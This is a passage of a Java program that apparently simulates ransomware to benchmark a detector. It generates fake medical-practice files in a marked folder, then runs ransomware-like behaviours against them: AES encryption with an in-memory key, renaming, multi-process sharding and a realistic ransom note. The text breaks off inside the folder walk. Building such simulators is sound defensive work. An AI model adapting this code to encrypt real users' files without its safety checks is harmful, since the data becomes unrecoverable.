import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.channels.FileChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.StandardOpenOption;
import java.security.SecureRandom;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.crypto.Cipher;
import javax.crypto.spec.IvParameterSpec;
import javax.crypto.spec.SecretKeySpec;
import javax.imageio.ImageIO;

/**
 * A SAFE ransomware simulator for testing and benchmarking {@code rempart sentinel watch}.
 * Single-file program, JDK only:
 *
 * <pre>
 *   java bench/sentinel/RansomSim.java populate --dir DIR [--files N] [--seed S]
 *   java bench/sentinel/RansomSim.java attack --dir DIR --behaviour B [--log FILE] [--seed S]
 *        [--interval-ms MS] [--processes N] [--shard i/N] [--note]
 * </pre>
 *
 * Safety: {@code populate} only creates a directory that did not exist and puts the marker file
 * {@value #MARKER} in it; {@code attack} refuses any directory without that marker, never follows a
 * symbolic link, checks the canonical path of every file against the canonical directory before
 * touching it, and keeps its random AES key in memory only (the data is unrecoverable by design, as
 * with real ransomware, but only inside the simulator's own folder). See README.md.
 */
public final class RansomSim {

  static final String MARKER = ".rempart-simulator";
  static final String MARKER_TEXT =
      "REMPART-SIMULATOR\nThis folder was created by bench/sentinel/RansomSim.java populate.\n"
          + "Its content is synthetic; the simulator may encrypt, rename or delete anything in it.\n";
  static final String NOTE_NAME = "HOW_TO_RECOVER_FILES.txt";
  static final String NOTE_TEXT =
      "---=== ALL YOUR FILES HAVE BEEN ENCRYPTED ===---\r\n\r\n"
          + "Your documents, photos, databases and other important files have been encrypted\r\n"
          + "with strongest encryption (AES-256) and unique key, generated for this computer.\r\n\r\n"
          + "The private decryption key is stored on a secret Internet server and nobody can\r\n"
          + "decrypt your files until you pay and obtain the private key.\r\n\r\n"
          + "Do not rename encrypted files. Do not try to decrypt your data using third party\r\n"
          + "software, it may cause permanent data loss.\r\n\r\n"
          + "To recover your files:\r\n"
          + "  1. Download Tor Browser and open: http://simulated-onion-address-not-real.onion/\r\n"
          + "  2. Enter your personal ID: RMP-SIM-0000-0000-0000\r\n"
          + "  3. Pay 0.5 BTC within 72 hours, after that the price doubles.\r\n\r\n"
          + "(This is a SIMULATION by the Rempart test corpus. No file outside the test folder\r\n"
          + "was touched and nothing left this computer.)\r\n";

  public static void main(String[] args) throws Exception {
    System.setProperty("java.awt.headless", "true");
    if (args.length == 0) {
      usage();
    }
    Map<String, String> opts = parseOptions(args, 1);
    switch (args[0]) {
      case "populate":
        populate(opts);
        break;
      case "attack":
        System.exit(attack(opts));
        break;
      default:
        usage();
    }
  }

  static void usage() {
    System.err.println(
        "usage: RansomSim populate --dir DIR [--files N] [--seed S]\n"
            + "       RansomSim attack --dir DIR --behaviour B [--log FILE] [--seed S]"
            + " [--interval-ms MS] [--processes N] [--shard i/N] [--note]\n"
            + "behaviours: inplace copy-delete rename-only partial intermittent sparse slow multi notes");
    System.exit(2);
  }

  static Map<String, String> parseOptions(String[] args, int from) {
    Map<String, String> m = new HashMap<>();
    for (int i = from; i < args.length; i++) {
      String a = args[i];
      if (!a.startsWith("--")) {
        System.err.println("unexpected argument: " + a);
        usage();
      }
      if (a.equals("--note")) {
        m.put("note", "true");
      } else if (i + 1 < args.length) {
        m.put(a.substring(2), args[++i]);
      } else {
        System.err.println("missing value for " + a);
        usage();
      }
    }
    return m;
  }

  static String required(Map<String, String> opts, String name) {
    String v = opts.get(name);
    if (v == null) {
      System.err.println("missing --" + name);
      usage();
    }
    return v;
  }

  // ---------------------------------------------------------------------------------------------
  // populate

  static final String[] FIRST = {"Marie", "Jean", "Camille", "Luc", "Sophie", "Pierre", "Claire",
      "Nicolas", "Julie", "Thomas", "Isabelle", "Antoine", "Nathalie", "Hugo", "Chloe", "Louis",
      "Emma", "Paul", "Lea", "Michel"};
  static final String[] LAST = {"Martin", "Bernard", "Dubois", "Thomas", "Robert", "Richard",
      "Petit", "Durand", "Leroy", "Moreau", "Simon", "Laurent", "Lefebvre", "Michel", "Garcia",
      "David", "Bertrand", "Roux", "Vincent", "Fournier", "Morel", "Girard", "Andre", "Mercier"};
  static final String[] WORDS = ("patient consultation douleur traitement examen clinique "
      + "tension arterielle ordonnance posologie comprime matin soir semaine controle biologique "
      + "radiographie thorax normal anomalie suivi medecin traitant cabinet rendez-vous facture "
      + "honoraires remboursement securite sociale mutuelle allergie antecedents familiaux "
      + "vaccination rappel certificat aptitude sport courrier confrere specialiste cardiologue "
      + "dermatologue kinesitherapie seances prescription renouvellement analyse sang glycemie "
      + "cholesterol poids taille temperature fievre toux fatigue sommeil stress alimentation")
      .split(" ");

  static void populate(Map<String, String> opts) throws Exception {
    Path dir = Path.of(required(opts, "dir")).toAbsolutePath().normalize();
    int n = Integer.parseInt(opts.getOrDefault("files", "300"));
    long seed = Long.parseLong(opts.getOrDefault("seed", "1"));
    if (Files.exists(dir, LinkOption.NOFOLLOW_LINKS)) {
      System.err.println("RansomSim populate: " + dir + " already exists; refusing (it must be a"
          + " new folder that the simulator creates itself)");
      System.exit(2);
    }
    Files.createDirectories(dir.getParent());
    Files.createDirectory(dir);
    Files.writeString(dir.resolve(MARKER), MARKER_TEXT);
    SplittableRandom rnd = new SplittableRandom(seed);

    int patients = Math.max(3, Math.min(40, n / 8));
    List<String> patientNames = new ArrayList<>();
    Set<String> seenPatients = new HashSet<>();
    while (patientNames.size() < patients) {
      String p = LAST[rnd.nextInt(LAST.length)] + "_" + FIRST[rnd.nextInt(FIRST.length)];
      if (seenPatients.add(p)) {
        patientNames.add(p);
      }
    }
    Set<String> used = new HashSet<>();
    long total = 0;
    for (int i = 0; i < n; i++) {
      int kind = rnd.nextInt(100);
      String patient = patientNames.get(rnd.nextInt(patientNames.size()));
      String date = String.format(Locale.ROOT, "20%02d-%02d-%02d", 19 + rnd.nextInt(7),
          1 + rnd.nextInt(12), 1 + rnd.nextInt(28));
      String rel;
      byte[] data;
      if (kind < 18) {
        rel = "Patients/" + patient + "/compte-rendu-" + date + ".docx";
        data = docx(rnd, patient, 3 + rnd.nextInt(rnd.nextInt(10) == 0 ? 400 : 40));
      } else if (kind < 26) {
        rel = "Comptabilite/recettes-" + date.substring(0, 7) + ".xlsx";
        data = xlsx(rnd, 10 + rnd.nextInt(rnd.nextInt(8) == 0 ? 2000 : 200));
      } else if (kind < 32) {
        rel = "Courriers/courrier-" + patient.toLowerCase(Locale.ROOT) + "-" + date + ".odt";
        data = odt(rnd, patient, 3 + rnd.nextInt(30));
      } else if (kind < 44) {
        String folder = rnd.nextBoolean() ? "Patients/" + patient : "Courriers";
        rel = folder + "/ordonnance-" + date + ".pdf";
        data = pdf(rnd, patient, 5 + rnd.nextInt(rnd.nextInt(6) == 0 ? 600 : 60));
      } else if (kind < 52) {
        rel = (rnd.nextBoolean() ? "Patients/" + patient + "/notes-" : "Agenda/semaine-") + date
            + ".txt";
        data = text(rnd, 1024 + rnd.nextInt(rnd.nextInt(10) == 0 ? 60000 : 12000));
      } else if (kind < 58) {
        rel = (rnd.nextBoolean() ? "Comptabilite/export-" : "Agenda/rdv-") + date + ".csv";
        data = csv(rnd, 20 + rnd.nextInt(rnd.nextInt(10) == 0 ? 5000 : 400));
      } else if (kind < 62) {
        rel = "Courriers/lettre-" + date + ".rtf";
        data = rtf(rnd, patient, 6 + rnd.nextInt(30));
      } else if (kind < 76) {
        rel = "Patients/" + patient + "/photo-" + date + ".jpg";
        int w = 320 + rnd.nextInt(rnd.nextInt(4) == 0 ? 1280 : 480);
        data = image(rnd, w, w * 3 / 4, "jpg");
      } else if (kind < 82) {
        rel = (rnd.nextBoolean() ? "Patients/" + patient + "/scan-" : "Courriers/scan-") + date
            + ".png";
        int w = 200 + rnd.nextInt(400);
        data = image(rnd, w, w * 4 / 3, "png");
      } else if (kind < 96) {
        rel = "Radiologie/" + patient + "_" + date + "/IM" + String.format(Locale.ROOT, "%04d",
            1 + rnd.nextInt(40)) + ".dcm";
        int side = 128 << rnd.nextInt(rnd.nextInt(5) == 0 ? 4 : 3); // 128..1024
        data = dicom(rnd, patient, date, side, side);
      } else {
        rel = (rnd.nextBoolean() ? "Agenda/agenda" : "Comptabilite/compta") + "-" + date
            + ".db";
        data = sqlite(rnd, 1 + rnd.nextInt(rnd.nextInt(3) == 0 ? 512 : 64));
      }
      if (!used.add(rel)) {
        int dot = rel.lastIndexOf('.');
        int k = 2;
        String alt;
        do {
          alt = rel.substring(0, dot) + "-" + k++ + rel.substring(dot);
        } while (!used.add(alt));
        rel = alt;
      }
      Path f = dir.resolve(rel);
      Files.createDirectories(f.getParent());
      Files.write(f, data, StandardOpenOption.CREATE_NEW, StandardOpenOption.WRITE);
      total += data.length;
    }
    // Empty-ish folders a practice has anyway, so every listed top-level folder exists.
    for (String d : new String[] {"Patients", "Radiologie", "Comptabilite", "Courriers", "Agenda"}) {
      Files.createDirectories(dir.resolve(d));
    }
    System.out.printf(Locale.ROOT, "populated %s: %d files, %.1f MB (seed %d)%n", dir, n,
        total / 1e6, seed);
  }

  static String sentence(SplittableRandom rnd, int words) {
    StringBuilder sb = new StringBuilder();
    for (int i = 0; i < words; i++) {
      String w = WORDS[rnd.nextInt(WORDS.length)];
      sb.append(i == 0 ? Character.toUpperCase(w.charAt(0)) + w.substring(1) : w);
      sb.append(i == words - 1 ? "." : " ");
    }
    return sb.toString();
  }

  static byte[] text(SplittableRandom rnd, int size) {
    StringBuilder sb = new StringBuilder();
    while (sb.length() < size) {
      sb.append(sentence(rnd, 6 + rnd.nextInt(12))).append(rnd.nextInt(5) == 0 ? "\n\n" : " ");
    }
    sb.setLength(size);
    return sb.toString().getBytes(StandardCharsets.UTF_8);
  }

  static byte[] csv(SplittableRandom rnd, int rows) {
    StringBuilder sb = new StringBuilder("date;patient;acte;montant;mode\n");
    for (int i = 0; i < rows; i++) {
      sb.append(String.format(Locale.ROOT, "2024-%02d-%02d;%s %s;%s;%d,%02d;%s\n",
          1 + rnd.nextInt(12), 1 + rnd.nextInt(28), LAST[rnd.nextInt(LAST.length)],
          FIRST[rnd.nextInt(FIRST.length)], rnd.nextBoolean() ? "G" : "CS", 25 + rnd.nextInt(50),
          rnd.nextInt(100), rnd.nextBoolean() ? "CB" : "cheque"));
    }
    return sb.toString().getBytes(StandardCharsets.UTF_8);
  }

  static byte[] rtf(SplittableRandom rnd, String patient, int paragraphs) {
    StringBuilder sb = new StringBuilder("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\n");
    sb.append("\\f0\\fs24 Cher confrere,\\par\n");
    for (int i = 0; i < paragraphs; i++) {
      sb.append(sentence(rnd, 10 + rnd.nextInt(30))).append("\\par\n");
    }
    sb.append("Patient : ").append(patient).append("\\par\n}");
    return sb.toString().getBytes(StandardCharsets.US_ASCII);
  }

  // A fixed entry time, so the same seed gives the same ZIP bytes on every run.
  static final long ZIP_TIME = 1_700_000_000_000L;

  static byte[] zip(String[][] entries, boolean storedFirst) throws IOException {
    ByteArrayOutputStream bos = new ByteArrayOutputStream();
    try (ZipOutputStream zos = new ZipOutputStream(bos)) {
      for (int i = 0; i < entries.length; i++) {
        byte[] content = entries[i][1].getBytes(StandardCharsets.UTF_8);
        ZipEntry e = new ZipEntry(entries[i][0]);
        e.setTime(ZIP_TIME);
        if (i == 0 && storedFirst) {
          // ODF requires "mimetype" first and stored (uncompressed).
          java.util.zip.CRC32 crc = new java.util.zip.CRC32();
          crc.update(content);
          e.setMethod(ZipEntry.STORED);
          e.setSize(content.length);
          e.setCompressedSize(content.length);
          e.setCrc(crc.getValue());
        }
        zos.putNextEntry(e);
        zos.write(content);
        zos.closeEntry();
      }
    }
    return bos.toByteArray();
  }

  static byte[] docx(SplittableRandom rnd, String patient, int paragraphs) throws IOException {
    StringBuilder body = new StringBuilder();
    body.append("<w:p><w:r><w:t>Compte rendu - ").append(patient).append("</w:t></w:r></w:p>");
    for (int i = 0; i < paragraphs; i++) {
      body.append("<w:p><w:r><w:t>").append(sentence(rnd, 8 + rnd.nextInt(40)))
          .append("</w:t></w:r></w:p>");
    }
    return zip(new String[][] {
        {"[Content_Types].xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
            + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package"
            + ".relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>"
            + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd."
            + "openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"},
        {"_rels/.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
            + "2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>"},
        {"word/document.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/"
            + "main\"><w:body>" + body + "</w:body></w:document>"}}, false);
  }

  static byte[] xlsx(SplittableRandom rnd, int rows) throws IOException {
    StringBuilder sheet = new StringBuilder();
    for (int r = 1; r <= rows; r++) {
      sheet.append("<row r=\"").append(r).append("\">");
      sheet.append("<c r=\"A").append(r).append("\" t=\"inlineStr\"><is><t>")
          .append(LAST[rnd.nextInt(LAST.length)]).append("</t></is></c>");
      sheet.append("<c r=\"B").append(r).append("\"><v>").append(25 + rnd.nextInt(60))
          .append("</v></c></row>");
    }
    return zip(new String[][] {
        {"[Content_Types].xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
            + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package"
            + ".relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>"
            + "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd."
            + "openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/><Override PartName="
            + "\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-"
            + "officedocument.spreadsheetml.worksheet+xml\"/></Types>"},
        {"_rels/.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
            + "2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>"},
        {"xl/workbook.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
            + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
            + "<sheets><sheet name=\"Recettes\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"},
        {"xl/_rels/workbook.xml.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
            + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
            + "2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>"},
        {"xl/worksheets/sheet1.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
            + "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
            + "<sheetData>" + sheet + "</sheetData></worksheet>"}}, false);
  }

  static byte[] odt(SplittableRandom rnd, String patient, int paragraphs) throws IOException {
    StringBuilder body = new StringBuilder();
    body.append("<text:p>Courrier concernant ").append(patient).append("</text:p>");
    for (int i = 0; i < paragraphs; i++) {
      body.append("<text:p>").append(sentence(rnd, 8 + rnd.nextInt(40))).append("</text:p>");
    }
    return zip(new String[][] {
        {"mimetype", "application/vnd.oasis.opendocument.text"},
        {"META-INF/manifest.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
            + "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:"
            + "1.0\" manifest:version=\"1.2\"><manifest:file-entry manifest:full-path=\"/\" "
            + "manifest:media-type=\"application/vnd.oasis.opendocument.text\"/>"
            + "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type="
            + "\"text/xml\"/></manifest:manifest>"},
        {"content.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content "
            + "xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:text="
            + "\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" office:version=\"1.2\">"
            + "<office:body><office:text>" + body + "</office:text></office:body>"
            + "</office:document-content>"}}, true);
  }

  static byte[] pdf(SplittableRandom rnd, String patient, int lines) {
    StringBuilder content = new StringBuilder("BT /F1 11 Tf 50 800 Td 14 TL\n");
    content.append("(Ordonnance - ").append(patient).append(") Tj T*\n");
    for (int i = 0; i < lines; i++) {
      content.append('(').append(sentence(rnd, 6 + rnd.nextInt(8))).append(") Tj T*\n");
    }
    content.append("ET\n");
    String[] objs = {
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            + "/Resources << /Font << /F1 5 0 R >> >> >>",
        "<< /Length " + content.length() + " >>\nstream\n" + content + "endstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"};
    StringBuilder sb = new StringBuilder("%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n");
    int[] offsets = new int[objs.length];
    for (int i = 0; i < objs.length; i++) {
      offsets[i] = sb.toString().getBytes(StandardCharsets.ISO_8859_1).length;
      sb.append(i + 1).append(" 0 obj\n").append(objs[i]).append("\nendobj\n");
    }
    int xref = sb.toString().getBytes(StandardCharsets.ISO_8859_1).length;
    sb.append("xref\n0 ").append(objs.length + 1).append("\n0000000000 65535 f \n");
    for (int off : offsets) {
      sb.append(String.format(Locale.ROOT, "%010d 00000 n \n", off));
    }
    sb.append("trailer\n<< /Size ").append(objs.length + 1).append(" /Root 1 0 R >>\nstartxref\n")
        .append(xref).append("\n%%EOF\n");
    return sb.toString().getBytes(StandardCharsets.ISO_8859_1);
  }

  static byte[] image(SplittableRandom rnd, int w, int h, String format) throws IOException {
    BufferedImage img = new BufferedImage(w, h, BufferedImage.TYPE_INT_RGB);
    int cx = rnd.nextInt(w), cy = rnd.nextInt(h);
    int base = rnd.nextInt(0x1000000);
    for (int y = 0; y < h; y++) {
      for (int x = 0; x < w; x++) {
        // Smooth gradients plus some noise: compresses like a photo, not like random data.
        int d = (Math.abs(x - cx) + Math.abs(y - cy)) & 0xff;
        int noise = rnd.nextInt(24);
        int r = (((base >> 16) & 0xff) + d + noise) & 0xff;
        int g = (((base >> 8) & 0xff) + (x & 0xff) / 2 + noise) & 0xff;
        int b = ((base & 0xff) + (y & 0xff) / 2 + noise) & 0xff;
        img.setRGB(x, y, (r << 16) | (g << 8) | b);
      }
    }
    ByteArrayOutputStream bos = new ByteArrayOutputStream();
    ImageIO.write(img, format, bos);
    return bos.toByteArray();
  }

  static byte[] dicom(SplittableRandom rnd, String patient, String date, int rows, int cols) {
    DicomWriter dw = new DicomWriter();
    String sopInstance = "1.2.826.0.1.3680043.9.7777." + rnd.nextInt(1_000_000) + "."
        + rnd.nextInt(1_000_000);
    dw.meta(sopInstance);
    dw.str(0x0008, 0x0016, "UI", "1.2.840.10008.5.1.4.1.1.1");
    dw.str(0x0008, 0x0018, "UI", sopInstance);
    dw.str(0x0008, 0x0020, "DA", date.replace("-", ""));
    dw.str(0x0008, 0x0060, "CS", "CR");
    dw.str(0x0010, 0x0010, "PN", patient.replace('_', '^'));
    dw.str(0x0010, 0x0020, "LO", "PAT" + rnd.nextInt(100000));
    dw.us(0x0028, 0x0002, 1);
    dw.str(0x0028, 0x0004, "CS", "MONOCHROME2");
    dw.us(0x0028, 0x0010, rows);
    dw.us(0x0028, 0x0011, cols);
    dw.us(0x0028, 0x0100, 16);
    dw.us(0x0028, 0x0101, 12);
    dw.us(0x0028, 0x0102, 11);
    dw.us(0x0028, 0x0103, 0);
    byte[] px = new byte[rows * cols * 2];
    int cx = rnd.nextInt(cols), cy = rnd.nextInt(rows);
    for (int y = 0, i = 0; y < rows; y++) {
      for (int x = 0; x < cols; x++, i += 2) {
        // 12-bit smooth anatomy-like intensity plus a little noise.
        int v = (2048 + (int) (1500 * Math.cos((x - cx) * 0.02) * Math.cos((y - cy) * 0.017))
            + rnd.nextInt(32)) & 0x0fff;
        px[i] = (byte) v;
        px[i + 1] = (byte) (v >> 8);
      }
    }
    dw.pixels(px);
    return dw.bytes();
  }

  /** Minimal explicit-VR little-endian DICOM Part 10 writer. */
  static final class DicomWriter {
    private final ByteArrayOutputStream out = new ByteArrayOutputStream();

    void meta(String sopInstance) {
      out.write(new byte[128], 0, 128);
      out.writeBytes("DICM".getBytes(StandardCharsets.US_ASCII));
      DicomWriter group = new DicomWriter();
      group.ob(0x0002, 0x0001, new byte[] {0, 1});
      group.str(0x0002, 0x0002, "UI", "1.2.840.10008.5.1.4.1.1.1");
      group.str(0x0002, 0x0003, "UI", sopInstance);
      group.str(0x0002, 0x0010, "UI", "1.2.840.10008.1.2.1");
      group.str(0x0002, 0x0012, "UI", "1.2.826.0.1.3680043.9.7777.1");
      byte[] g = group.out.toByteArray();
      header(0x0002, 0x0000, "UL", 4);
      out.writeBytes(le(g.length, 4));
      out.writeBytes(g);
    }

    void str(int grp, int el, String vr, String value) {
      byte[] v = value.getBytes(StandardCharsets.US_ASCII);
      if ((v.length & 1) == 1) {
        byte[] p = new byte[v.length + 1];
        System.arraycopy(v, 0, p, 0, v.length);
        p[v.length] = (byte) (vr.equals("UI") ? 0 : ' ');
        v = p;
      }
      header(grp, el, vr, v.length);
      out.writeBytes(v);
    }

    void us(int grp, int el, int value) {
      header(grp, el, "US", 2);
      out.writeBytes(le(value, 2));
    }

    void ob(int grp, int el, byte[] v) {
      longHeader(grp, el, "OB", v.length);
      out.writeBytes(v);
    }

    void pixels(byte[] px) {
      longHeader(0x7FE0, 0x0010, "OW", px.length);
      out.writeBytes(px);
    }

    private void header(int grp, int el, String vr, int len) {
      out.writeBytes(le(grp, 2));
      out.writeBytes(le(el, 2));
      out.writeBytes(vr.getBytes(StandardCharsets.US_ASCII));
      out.writeBytes(le(len, 2));
    }

    private void longHeader(int grp, int el, String vr, int len) {
      out.writeBytes(le(grp, 2));
      out.writeBytes(le(el, 2));
      out.writeBytes(vr.getBytes(StandardCharsets.US_ASCII));
      out.writeBytes(new byte[2]);
      out.writeBytes(le(len, 4));
    }

    static byte[] le(int v, int n) {
      byte[] b = new byte[n];
      for (int i = 0; i < n; i++) {
        b[i] = (byte) (v >>> (8 * i));
      }
      return b;
    }

    byte[] bytes() {
      return out.toByteArray();
    }
  }

  static byte[] sqlite(SplittableRandom rnd, int pages) {
    int pageSize = 4096;
    ByteBuffer b = ByteBuffer.allocate(pages * pageSize).order(ByteOrder.BIG_ENDIAN);
    b.put("SQLite format 3\0".getBytes(StandardCharsets.US_ASCII));
    b.putShort(16, (short) pageSize);
    b.put(18, (byte) 1).put(19, (byte) 1).put(20, (byte) 0);
    b.put(21, (byte) 64).put(22, (byte) 32).put(23, (byte) 32);
    b.putInt(24, 1 + rnd.nextInt(1000)); // file change counter
    b.putInt(28, pages); // database size in pages
    b.putInt(44, 4); // schema format
    b.putInt(56, 1); // UTF-8
    b.putInt(92, b.getInt(24));
    b.putInt(96, 3037002); // SQLITE_VERSION_NUMBER
    b.put(100, (byte) 0x0D); // page 1: table b-tree leaf (sqlite_schema)
    for (int p = 1; p < pages; p++) {
      int base = p * pageSize;
      b.put(base, (byte) (rnd.nextInt(4) == 0 ? 0x05 : 0x0D));
      // Records packed from the end of the page, as SQLite does: mostly text, low entropy.
      int pos = base + pageSize;
      while (true) {
        byte[] rec = (LAST[rnd.nextInt(LAST.length)] + "|" + FIRST[rnd.nextInt(FIRST.length)]
            + "|2024-" + (1 + rnd.nextInt(12)) + "-" + (1 + rnd.nextInt(28)) + "|"
            + WORDS[rnd.nextInt(WORDS.length)]).getBytes(StandardCharsets.US_ASCII);
        if (pos - rec.length < base + 64) {
          break;
        }
        pos -= rec.length;
        b.put(pos, rec);
      }
    }
    return b.array();
  }

  // ---------------------------------------------------------------------------------------------
  // attack

  static final Set<String> BEHAVIOURS = Set.of("inplace", "copy-delete", "rename-only", "partial",
      "intermittent", "sparse", "slow", "multi", "notes");

  private Path root;
  private String behaviour;
  private boolean dropNote;
  private String ext;
  private long intervalMs;
  private int shard = 0;
  private int shards = 1;
  private OutputStream log;
  private final long pid = ProcessHandle.current().pid();
  // The key exists only in this process's memory: it is never written, printed or sent.
  private final SecretKeySpec key;
  private final SecureRandom secure = new SecureRandom();
  private int altered = 0;
  private boolean firstFile = true;

  private RansomSim() {
    byte[] k = new byte[32];
    secure.nextBytes(k);
    key = new SecretKeySpec(k, "AES");
  }

  static int attack(Map<String, String> opts) throws Exception {
    String dirArg = required(opts, "dir");
    String behaviour = required(opts, "behaviour");
    if (!BEHAVIOURS.contains(behaviour)) {
      System.err.println("RansomSim attack: unknown behaviour " + behaviour);
      return 2;
    }
    Path dir = Path.of(dirArg).toAbsolutePath().normalize();
    // Safety token: refuse anything that populate did not create.
    Path marker = dir.resolve(MARKER);
    if (!Files.isDirectory(dir, LinkOption.NOFOLLOW_LINKS)
        || !Files.isRegularFile(marker, LinkOption.NOFOLLOW_LINKS)
        || !Files.readString(marker).startsWith("REMPART-SIMULATOR")) {
      System.err.println("RansomSim attack: REFUSED: " + dir + " is not a simulator folder (no "
          + MARKER + " marker written by 'RansomSim populate', or the folder is a symbolic link)."
          + " Nothing was touched.");
      return 2;
    }
    Path real = dir.toRealPath();
    Path home = Path.of(System.getProperty("user.home")).toAbsolutePath().normalize();
    if (real.getNameCount() < 2 || real.equals(home) || home.startsWith(real)) {
      // Belt and braces: never a file system root, a home folder or one of its parents.
      System.err.println("RansomSim attack: REFUSED: " + real + " is too broad a folder.");
      return 2;
    }
    RansomSim sim = new RansomSim();
    sim.root = real;
    sim.behaviour = behaviour;
    sim.dropNote = opts.containsKey("note");
    long seed = Long.parseLong(opts.getOrDefault("seed", "1"));
    sim.ext = extension(new SplittableRandom(seed ^ 0x5DEECE66DL));
    sim.intervalMs = Long.parseLong(opts.getOrDefault("interval-ms", "10000"));
    if (opts.containsKey("shard")) {
      String[] s = opts.get("shard").split("/");
      sim.shard = Integer.parseInt(s[0]);
      sim.shards = Integer.parseInt(s[1]);
      if (sim.shards < 1 || sim.shard < 0 || sim.shard >= sim.shards) {
        System.err.println("RansomSim attack: bad --shard " + opts.get("shard"));
        return 2;
      }
    }
    if (opts.containsKey("log")) {
      sim.log = new FileOutputStream(opts.get("log"), true);
    }
    try {
      if (behaviour.equals("multi")) {
        return sim.multi(opts, dirArg, seed);
      }
      sim.walk(sim.root);
      System.out.println("RansomSim attack " + behaviour + " (pid " + sim.pid + "): "
          + sim.altered + " files altered");
      return 0;
    } finally {
      if (sim.log != null) {
        sim.log.close();
      }
    }
  }

  static String extension(SplittableRandom rnd) {
    String alphabet = "abcdefghijklmnopqrstuvwxyz0123456789";
    int len = 5 + rnd.nextInt(4);
    StringBuilder sb = new StringBuilder();
    for (int i = 0; i < len; i++) {
      sb.append(alphabet.charAt(rnd.nextInt(alphabet.length())));
    }
    return sb.toString();
  }

  private int multi(Map<String, String> opts, String dirArg, long seed) throws Exception {
    int n = Integer.parseInt(opts.getOrDefault("processes", "4"));
    String javaBin = ProcessHandle.current().info().command().orElse("java");
    String source = Path.of(RansomSim.class.getProtectionDomain().getCodeSource().getLocation()
        .toURI()).toString();
    List<Process> children = new ArrayList<>();
    for (int i = 0; i < n; i++) {
      // C1 only: the children spend most of their start-up compiling this source file.
      List<String> cmd = new ArrayList<>(List.of(javaBin, "-XX:TieredStopAtLevel=1", source,
          "attack", "--dir", dirArg, "--behaviour", "inplace", "--shard", i + "/" + n,
          "--seed", Long.toString(seed)));
      if (opts.containsKey("log")) {
        cmd.add("--log");
        cmd.add(opts.get("log"));
      }
      if (dropNote) {
        cmd.add("--note");
      }
      children.add(new ProcessBuilder(cmd).inheritIO().start());
    }
    int rc = 0;
    for (Process p : children) {
      rc = Math.max(rc, p.waitFor());
    }
    System.out.println("RansomSim attack multi: " + n + " processes done");
    return rc;
  }

  /** Walks like real ransomware: readdir order, depth first, files of a folder as listed. */
  private void walk(Path dir) throws Exception {
    List<Path> entries = new ArrayList<>();
    try (DirectoryStream<Path> ds = Files.newDirectoryStream(dir)) {
      for (Path p : ds) {
        entries.add(p);
      }
    } catch (IOException e) {
      return; // unreadable or vanished folder: move on, as ransomware does
    }
    if (dropNote || behaviour.equals("notes")) {
      writeNote(dir);
    }
    if (behaviour.equals("notes")) {
      for (Path p : entries) {
